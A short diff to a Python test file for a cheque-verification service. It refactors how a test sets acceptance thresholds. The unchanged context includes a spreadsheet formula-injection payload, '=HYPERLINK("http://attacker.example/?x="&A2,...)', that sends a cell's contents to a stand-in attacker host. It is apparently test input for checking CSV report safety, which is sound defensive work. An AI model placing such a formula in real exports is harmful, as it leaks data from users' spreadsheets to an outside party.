@@ -9,7 +9,7 @@ import pytest
 
 from chequeverify.reports import CSV_COLUMNS
 from chequeverify.service import Decision
-from tests.service_fixtures import cheque_with, enrol, fast_kdf, read_pdf, scribble, team  # noqa: F401
+from tests.service_fixtures import cheque_with, enrol, fast_kdf, read_pdf, scribble, set_thresholds, team  # noqa: F401
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A2,"details")'
 
@@ -30,7 +30,7 @@ def rejected(team, writer: int) -> int:
 
 def test_the_report_says_who_approved_or_refused_an_override(team, tmp_path):
     enrol(team)
-    team.sue.set_thresholds(accept=0.995, reject=0.99, adapt_per_signatory=False)
+    set_thresholds(team, accept=0.995, reject=0.99, adapt_per_signatory=False)
     refused, approved, waiting = rejected(team, 2), rejected(team, 3), rejected(team, 4)
     for cid in (refused, approved, waiting):
         team.carl.decide(cid, "accept", "customer confirmed by phone")
